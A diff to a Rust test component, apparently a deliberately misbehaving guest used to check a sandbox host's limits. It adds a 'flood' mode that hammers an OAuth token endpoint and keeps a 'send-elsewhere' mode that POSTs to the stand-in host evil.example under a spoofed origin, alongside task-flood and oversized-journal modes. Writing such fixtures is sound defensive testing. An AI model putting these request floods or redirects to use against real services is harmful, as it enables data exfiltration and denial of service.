@@ -1,10 +1,12 @@
 //! Says what it must not: its configuration is `answer=` and how.
 
-use wif_guest_kit::types::{Access, Clock, Event, Header, HttpRequest, NumberedTask, Output, Start, Task};
+use wif_guest_kit::types::{Access, Clock, Event, Header, HttpRequest, NumberedTask, Output, Purpose, Start, Task};
 use wif_guest_kit::{Behaviour, HOUR_MS, ID, component, saying, serving, word};
 
 struct Lying {
     how: String,
+    origin: String,
+    steps: u32,
     told_the_truth: bool,
 }
 
@@ -12,7 +14,8 @@ component!(Lying);
 
 impl Behaviour for Lying {
     fn open(configuration: &str, _: &Start) -> Self {
-        Self { how: word(configuration, "answer").unwrap_or_default().to_owned(), told_the_truth: false }
+        let word = |key| word(configuration, key).unwrap_or_default().to_owned();
+        Self { how: word("answer"), origin: word("origin"), steps: 0, told_the_truth: false }
     }
 
     fn step(&mut self, _: &Clock, event: &Event) -> Output {
@@ -24,8 +27,27 @@ impl Behaviour for Lying {
             None => &self.how,
         };
         self.told_the_truth = true;
+        self.steps += 1;
+        if how == "flood" {
+            output.wake_in_ms = Some(0);
+            let request = request(format!("{}/v1/oauth/token", self.origin), self.origin.clone());
+            output.tasks.push(NumberedTask { number: self.steps, task: Task::SendRequest(request) });
+        }
         spoil(&mut output, how);
         output
+    }
+}
+
+fn request(url: String, origin: String) -> HttpRequest {
+    HttpRequest {
+        purpose: Purpose::Exchange,
+        method: "POST".to_owned(),
+        url,
+        origin,
+        headers: Vec::new(),
+        body: String::new(),
+        timeout_ms: 1_000,
+        max_response_bytes: 1_000,
     }
 }
 
@@ -37,15 +59,7 @@ fn spoil(output: &mut Output, how: &str) {
             output.tasks = (0..10_000).map(task).collect();
         }
         "send-elsewhere" => {
-            let request = HttpRequest {
-                method: "POST".to_owned(),
-                url: "https://evil.example/".to_owned(),
-                origin: "https://api.anthropic.com".to_owned(),
-                headers: Vec::new(),
-                body: String::new(),
-                timeout_ms: 1_000,
-                max_response_bytes: 1_000,
-            };
+            let request = request("https://evil.example/".to_owned(), "https://api.anthropic.com".to_owned());
             output.tasks.push(NumberedTask { number: 1, task: Task::SendRequest(request) });
         }
         "journal" => output.journal = Some("x".repeat(4 << 20)),
